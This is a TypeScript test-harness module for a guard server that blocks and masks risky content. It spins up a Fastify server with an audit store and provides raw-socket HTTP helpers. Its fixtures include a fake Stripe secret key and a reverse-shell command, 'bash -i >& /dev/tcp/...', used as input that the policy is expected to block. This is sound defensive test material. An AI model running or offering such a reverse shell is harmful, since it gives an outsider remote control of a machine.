import { mkdtemp, rm } from 'node:fs/promises';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import type { Logger } from 'pino';
import { openAuditStore, type AuditStore } from '../../audit/index.js';
import { guardConfigSchema, type GuardConfig } from '../../config.js';
import { GuardEngine } from '../../engine.js';
import { buildGuardServer } from '../app.js';
import { hashApiKey } from '../auth.js';
import type { GuardRoutePlugin } from '../deps.js';

/** A live-looking Stripe key the default policy masks. */
export const SECRET = 'sk_live_51HxQ2aLkR9mT4vW8zN3pB7cY';
/** A reverse shell to a concrete host: the default policy blocks it. */
export const REVERSE_SHELL = 'run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` now';

/** Clear-text keys of the test configs (only their sha256 is in the config). */
export const KEYS = { acme: 'acme-key-0123456789', globex: 'globex-key-0123456789', admin: 'admin-key-0123456789', guardOnly: 'guard-only-key-0123456789' };

export const AUTH_KEYS = [
  { id: 'acme', tenant: 'acme', sha256: hashApiKey(KEYS.acme), scopes: ['guard', 'audit'] },
  { id: 'globex', tenant: 'globex', sha256: hashApiKey(KEYS.globex), scopes: ['guard', 'audit'] },
  { id: 'admin', sha256: hashApiKey(KEYS.admin), scopes: ['guard', 'audit'] },
  { id: 'guard-only', tenant: 'acme', sha256: hashApiKey(KEYS.guardOnly), scopes: ['guard'] },
];

export interface Harness {
  app: FastifyInstance;
  engine: GuardEngine;
  audit: AuditStore;
  config: GuardConfig;
  dir: string;
  /** Listens on 127.0.0.1:0 and returns the base URL. */
  listen(): Promise<string>;
  close(): Promise<void>;
}

/**
 * A guard server over the real engine and a real SQLite audit store in a temp folder. `config`
 * is guard.yaml content as an object (defaults fill the rest); policies `default` and `watch`
 * (shadow) exist unless replaced.
 */
export async function makeHarness(options: { config?: Record<string, unknown>; logger?: Logger; extraRoutes?: GuardRoutePlugin[] } = {}): Promise<Harness> {
  const config = guardConfigSchema.parse({ policies: { default: {}, watch: { mode: 'shadow' } }, ...options.config });
  const engine = await GuardEngine.create({ config });
  const dir = await mkdtemp(join(tmpdir(), 'warden-guard-server-'));
  const audit = await openAuditStore(`sqlite:${join(dir, 'audit.db')}`);
  const app = buildGuardServer({ config, engine, audit, processMetrics: false, ...(options.logger ? { logger: options.logger } : {}), ...(options.extraRoutes ? { extraRoutes: options.extraRoutes } : {}) });
  return {
    app,
    engine,
    audit,
    config,
    dir,
    async listen() {
      await app.listen({ host: '127.0.0.1', port: 0 });
      const address = app.server.address();
      if (!address || typeof address !== 'object') throw new Error('server has no address');
      return `http://127.0.0.1:${address.port}`;
    },
    async close() {
      await app.close();
      await audit.close();
      await rm(dir, { recursive: true, force: true });
    },
  };
}

export interface RawResponse {
  status: number;
  headers: Record<string, string>;
  body: string;
  /** ms from connect until the server closed the connection (or the response ended). */
  ms: number;
}

/**
 * Speaks HTTP/1.1 over a raw socket: writes `head`, then each of `chunks` after `delayMs`,
 * and resolves with the first response once the server closes or the response is complete.
 */
export function rawRequest(url: string, head: string, chunks: readonly string[] = [], delayMs = 0): Promise<RawResponse> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const started = performance.now();
    const socket = connect(Number(port), hostname);
    let data = '';
    let timer: NodeJS.Timeout | undefined;
    const finish = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(parseResponse(data, performance.now() - started));
    };
    socket.on('connect', () => {
      socket.write(head);
      let i = 0;
      const next = () => {
        if (i >= chunks.length || socket.destroyed) return;
        socket.write(chunks[i++]!, () => undefined);
        timer = setTimeout(next, delayMs);
      };
      timer = setTimeout(next, delayMs);
    });
    socket.on('data', (chunk) => {
      data += chunk.toString('utf8');
      const parsed = parseResponse(data, 0);
      const length = Number(parsed.headers['content-length'] ?? NaN);
      if (Number.isFinite(length) && Buffer.byteLength(parsed.body) >= length) finish();
    });
    socket.on('error', (error: NodeJS.ErrnoException) => (error.code === 'ECONNRESET' || error.code === 'EPIPE' ? finish() : reject(error)));
    socket.on('close', finish);
  });
}

function parseResponse(data: string, ms: number): RawResponse {
  const end = data.indexOf('\r\n\r\n');
  const head = end < 0 ? data : data.slice(0, end);
  const [statusLine = '', ...lines] = head.split('\r\n');
  const headers: Record<string, string> = {};
  for (const line of lines) {
    const colon = line.indexOf(':');
    if (colon > 0) headers[line.slice(0, colon).trim().toLowerCase()] = line.slice(colon + 1).trim();
  }
  return { status: Number(statusLine.split(' ')[1] ?? 0), headers, body: end < 0 ? '' : data.slice(end + 4), ms };
}

/** Request head for POST `path` with a JSON body (Content-Length when given, else chunked). */
export function postHead(path: string, options: { contentLength?: number; headers?: Record<string, string> } = {}): string {
  const lines = [`POST ${path} HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Connection: close'];
  lines.push(options.contentLength === undefined ? 'Transfer-Encoding: chunked' : `Content-Length: ${options.contentLength}`);
  for (const [name, value] of Object.entries(options.headers ?? {})) lines.push(`${name}: ${value}`);
  return lines.join('\r\n') + '\r\n\r\n';
}

/** One chunk of a chunked body. */
export function chunk(text: string): string {
  return `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;
}

export const LAST_CHUNK = '0\r\n\r\n';
